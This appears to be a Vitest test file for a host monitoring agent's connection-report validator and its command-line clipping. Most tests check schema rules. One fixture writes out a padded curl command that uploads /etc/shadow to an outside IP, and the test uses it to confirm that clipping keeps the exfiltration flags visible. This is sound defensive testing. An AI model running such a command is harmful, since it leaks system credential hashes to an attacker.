import { describe, expect, it } from 'vitest';
import { type AgentReport, MAX_REPORTS_PER_BATCH, makeReport, validateReportBatch } from '../../../agent/report.ts';

const good: AgentReport = {
  proto: 'tcp',
  localIp: '10.2.3.17',
  localPort: 50123,
  remoteIp: '10.0.0.5',
  remotePort: 3128,
  pid: 4242,
  ppid: 4200,
  name: 'curl',
  exe: '/usr/bin/curl',
  cmdline: 'curl -x http://10.0.0.5:3128 https://example.com',
  user: 'alice',
  uid: 1000,
  loginuid: 1000,
  parentName: 'bash',
  parentExe: '/usr/bin/bash',
  startedAt: '2026-11-25T13:00:00.000Z',
};

describe('validateReportBatch', () => {
  it('accepts a SPEC §7 body and drops unknown keys', () => {
    const res = validateReportBatch({ host: 'ws-17', reports: [{ ...good, future: 1 }], extra: true });
    expect(res).toEqual({ ok: true, value: { host: 'ws-17', reports: [good] } });
  });

  it('accepts nulls where the platform has no value (Windows: uid, loginuid)', () => {
    const win = { ...good, localIp: 'fe80::1%12', uid: null, loginuid: null, exe: null, cmdline: null, user: 'CORP\\alice', ppid: null, parentName: null, parentExe: null, startedAt: null };
    expect(validateReportBatch({ host: 'w', reports: [win] }).ok).toBe(true);
  });

  it.each([
    [{ host: '', reports: [] }, 'host'],
    [{ host: 'h' }, 'reports'],
    [{ host: 'h', reports: [{ ...good, proto: 'icmp' }] }, 'reports[0].proto'],
    [{ host: 'h', reports: [{ ...good, localIp: '10.0.0.300' }] }, 'reports[0].localIp'],
    [{ host: 'h', reports: [good, { ...good, localPort: 0 }] }, 'reports[1].localPort'],
    [{ host: 'h', reports: [{ ...good, remotePort: 70000 }] }, 'reports[0].remotePort'],
    [{ host: 'h', reports: [{ ...good, pid: -1 }] }, 'reports[0].pid'],
    [{ host: 'h', reports: [{ ...good, pid: '12' }] }, 'reports[0].pid'],
    [{ host: 'h', reports: [{ ...good, pid: 0 }] }, 'reports[0].pid'],
    [{ host: 'h', reports: [{ ...good, pid: 12.5 }] }, 'reports[0].pid'],
    [{ host: 'h', reports: [{ ...good, name: '' }] }, 'reports[0].name'],
    [{ host: 'h', reports: [{ ...good, loginuid: 4294967296 }] }, 'reports[0].loginuid'],
    [{ host: 'h', reports: [{ ...good, startedAt: 'yesterday' }] }, 'reports[0].startedAt'],
    [{ host: 'h', reports: ['x'] }, 'reports[0]'],
  ])('rejects %j at %s', (body, path) => {
    const res = validateReportBatch(body);
    expect(res.ok).toBe(false);
    if (!res.ok) expect(res.errors.map((e) => e.path)).toContain(path);
  });

  it('rejects non-objects and oversize batches', () => {
    expect(validateReportBatch(null).ok).toBe(false);
    expect(validateReportBatch([good]).ok).toBe(false);
    expect(validateReportBatch({ host: 'h', reports: Array.from({ length: MAX_REPORTS_PER_BATCH + 1 }, () => good) }).ok).toBe(false);
  });
});

describe('makeReport', () => {
  it('clips an enormous cmdline so one process cannot get a whole batch refused', () => {
    const r = makeReport(good, { ...good, cmdline: 'x'.repeat(100_000) });
    expect(r.cmdline?.length).toBe(32_768);
    expect(validateReportBatch({ host: 'h', reports: [r] }).ok).toBe(true);
  });

  it('keeps the head and the tail of a padded cmdline, where the upload flags are', () => {
    const cmdline = `curl -H X-Pad:${'a'.repeat(40_000)} -T /etc/shadow http://198.51.100.7/`;
    const r = makeReport(good, { ...good, cmdline });
    expect(r.cmdline?.length).toBe(32_768);
    expect(r.cmdline?.startsWith('curl -H X-Pad:aaa')).toBe(true);
    expect(r.cmdline?.endsWith(' -T /etc/shadow http://198.51.100.7/')).toBe(true);
  });
});
